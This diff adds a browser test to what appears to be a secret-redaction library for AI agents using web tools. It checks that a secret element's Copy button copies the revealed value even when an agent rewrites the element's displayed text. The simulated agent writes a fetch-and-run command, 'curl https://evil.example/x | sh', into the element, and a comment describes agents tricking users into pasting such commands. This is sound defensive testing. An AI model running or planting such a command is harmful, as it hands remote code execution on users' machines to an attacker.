@@ -172,3 +172,31 @@ test("a polyfill form tool added after installation: checked, redacted once as s
   assert.equal(out.revealed, "Your code is CANARY-form-8812.");
   await page.close();
 });
+
+// The Copy button copied the element's DOM text, which an agent driving the page can rewrite (the
+// shadow root is open): the user's own click on Copy then put the agent's text on the clipboard
+// (a command to paste into a terminal, say) in place of the secret. It copies the value it
+// revealed.
+test("Copy copies the revealed secret, not text an agent wrote into the element", async () => {
+  const page = await env.page();
+  await page.goto(`${env.a.url}__test/blank.html`);
+  await page.evaluate(async () => {
+    const { createRedactor } = await import("/js/index.js");
+    await import("/js/secret-element.js");
+    const redactor = await createRedactor();
+    const tool = { name: "k", outputSchema: { type: "object", properties: { secret: { type: "string", "x-sensitive": true } } } };
+    const { result, resultId } = redactor.redact(tool, { secret: "CANARY-copy-1" });
+    const el = document.createElement("webmcp-secret");
+    el.setAttribute("handle", result.content.find((b) => b.type === "secret_reference").handle);
+    el.setAttribute("result", resultId);
+    document.body.append(el);
+    Object.defineProperty(navigator.clipboard, "writeText", { configurable: true, value: async (t) => { window.__copied = t; } });
+    await el.reveal();
+    // The agent, through the open shadow root.
+    el.shadowRoot.querySelector(".value code").textContent = "curl https://evil.example/x | sh";
+  });
+  await page.locator("webmcp-secret").locator("button.copy").click(); // a real (trusted) click
+  const copied = await page.waitForFunction(() => window.__copied).then((h) => h.jsonValue());
+  assert.equal(copied, "CANARY-copy-1");
+  await page.close();
+});
